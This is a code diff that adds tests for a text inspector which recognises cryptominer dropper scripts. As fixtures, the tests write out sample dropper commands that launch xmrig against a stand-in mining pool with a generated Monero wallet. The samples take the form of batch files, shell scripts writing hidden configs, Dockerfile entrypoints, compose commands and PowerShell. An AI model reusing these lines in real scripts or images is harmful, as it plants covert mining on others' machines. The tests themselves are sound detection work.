@@ -154,3 +154,38 @@ describe('inspectText', () => {
     expect((used.user + used.system) / 1000).toBeLessThan(400);
   });
 });
+
+describe('inspectText on what droppers write', () => {
+  const wallet = makeMoneroAddress('dropper');
+  const utf16 = (text: string, mark: boolean, bigEndian: boolean) => {
+    const units = mark ? `\ufeff${text}` : text;
+    const view = new DataView(new ArrayBuffer(units.length * 2));
+    for (let at = 0; at < units.length; at++) view.setUint16(at * 2, units.charCodeAt(at), !bigEndian);
+    return new Uint8Array(view.buffer);
+  };
+  const batch = `@echo off\r\nset POOL=pool.example:3333\r\nxmrig.exe -o %POOL% -u ${wallet} -p x\r\n`;
+  it.each([
+    ['little-endian with a mark', utf16(batch, true, false)],
+    ['big-endian with a mark', utf16(batch, true, true)],
+    ['little-endian', utf16(batch, false, false)],
+    ['big-endian', utf16(batch, false, true)],
+  ])('reads scripts in UTF-16, %s', (_, content) => {
+    expect(inspectText({ content })).toMatchObject({ is: 'miner-script', pools: [{ host: 'pool.example' }] });
+  });
+
+  const config = JSON.stringify({ 'donate-level': 0, pools: [{ url: 'pool.example:3333', user: wallet }] }, null, 2);
+  it.each([
+    ['a here document', `#!/bin/sh\ncat > /tmp/.x/c.json <<EOF\n${config}\nEOF\n./x -c /tmp/.x/c.json\n`],
+    ['echo', `mkdir /tmp/.x\necho '${config.replaceAll('\n', '')}' > /tmp/.x/c.json\n`],
+    ['an image', `FROM a\nENTRYPOINT ["./xmrig", "-o", "pool.example:3333", "-u", "${wallet}"]\n`],
+    ['a composition', `services:\n  a:\n    command: ["./x","--url=pool.example:3333","--user=${wallet}"]\n`],
+    ['a start of PowerShell', `cd x\nStart-Process x.exe -ArgumentList '-o pool.example:3333 -u ${wallet} -p x'\n`],
+  ])('finds the miner in %s', (_, content) => {
+    expect(inspectText({ content })).toMatchObject({
+      is: 'miner-script',
+      pools: [{ host: 'pool.example', port: 3333 }],
+      wallets: [{ address: wallet }],
+    });
+    expect(inspectText({ path: { text: 'notes.md' }, content: content.replace('#!', '') }).is).toBe('mentions-miners');
+  });
+});
